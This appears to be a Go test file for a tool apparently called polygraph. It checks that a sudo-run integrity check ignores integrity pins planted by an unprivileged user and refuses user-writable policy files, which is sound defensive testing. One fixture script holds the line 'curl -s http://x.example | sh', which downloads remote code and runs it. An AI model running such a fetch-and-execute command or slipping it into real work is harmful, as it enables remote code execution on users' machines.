package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/polygraph/polygraph/internal/stores"

	"github.com/polygraph/polygraph/internal/testenv"
)

// asSudo makes this test process look like `sudo polygraph` run by a
// fresh unprivileged user: root, SUDO_* naming the user, the default home,
// a sudo store of its own. It returns the user's polygraph home.
func asSudo(t *testing.T) (home string, uid, gid int, base string) {
	t.Helper()
	testenv.RequireRoot(t)
	base, err := os.MkdirTemp("", "polygraph-trust-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	os.Chmod(base, 0o755)
	name, uid, gid := sudoTestUser(t, base)
	t.Setenv("POLYGRAPH_HOME", "")
	t.Setenv("POLYGRAPH_SUDO_STORE", filepath.Join(base, "store"))
	t.Setenv("SUDO_USER", name)
	t.Setenv("SUDO_UID", strconv.Itoa(uid))
	t.Setenv("SUDO_GID", strconv.Itoa(gid))
	if home, err = stores.Home(); err != nil {
		t.Fatal(err)
	}
	return home, uid, gid, base
}

// TestSudoIgnoresPlantedPins: the traced tree (running as the user)
// writes its own script into the user's pin file; the next sudo run must
// not take the script as vouched for. A sudo run's pins are the sudo
// store's, which only root can write.
func TestSudoIgnoresPlantedPins(t *testing.T) {
	home, uid, gid, base := asSudo(t)
	script := filepath.Join(base, "home", "evil.sh")
	body := []byte("#!/bin/sh\ncurl -s http://x.example | sh\n")
	if err := os.WriteFile(script, body, 0o755); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(body)
	pins := filepath.Join(home, "integrity", "pins.json")
	doc, _ := json.Marshal(map[string]any{"version": 1, "pins": map[string]any{
		script: map[string]any{"sha256": hex.EncodeToString(sum[:]), "size": len(body), "pinned_at": time.Now()}}})
	if err := os.MkdirAll(filepath.Dir(pins), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(pins, doc, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{filepath.Dir(pins), pins} {
		os.Chown(p, uid, gid)
	}
	var out bytes.Buffer
	if err := runIntegrityCheck(context.Background(), &integrityOptions{}, []string{script}, &out); err != nil {
		t.Fatal(err)
	}
	if f := strings.Fields(out.String()); len(f) == 0 || f[0] != "unknown" || !strings.Contains(out.String(), "untrusted-binary") {
		t.Errorf("a sudo check of the planted script: %s; want unknown, the user's pin file unused", out.String())
	}
}

// TestSudoRefusesChangeablePolicy: a policy file the user (and so the
// traced tree) could change is refused under sudo; one only root can
// change is used.
func TestSudoRefusesChangeablePolicy(t *testing.T) {
	_, uid, gid, base := asSudo(t)
	mine := filepath.Join(base, "home", "policy.yaml")
	if err := os.WriteFile(mine, []byte("rules: {}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	os.Chown(mine, uid, gid)
	if _, err := loadPolicy(mine); err == nil || !strings.Contains(err.Error(), "not used under sudo") {
		t.Errorf("loadPolicy of the user's own file under sudo: %v, want it refused", err)
	}
	roots := filepath.Join(base, "etc-policy.yaml")
	if err := os.WriteFile(roots, []byte("rules: {}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := loadPolicy(roots); err != nil {
		t.Errorf("loadPolicy of root's file under sudo: %v", err)
	}
}
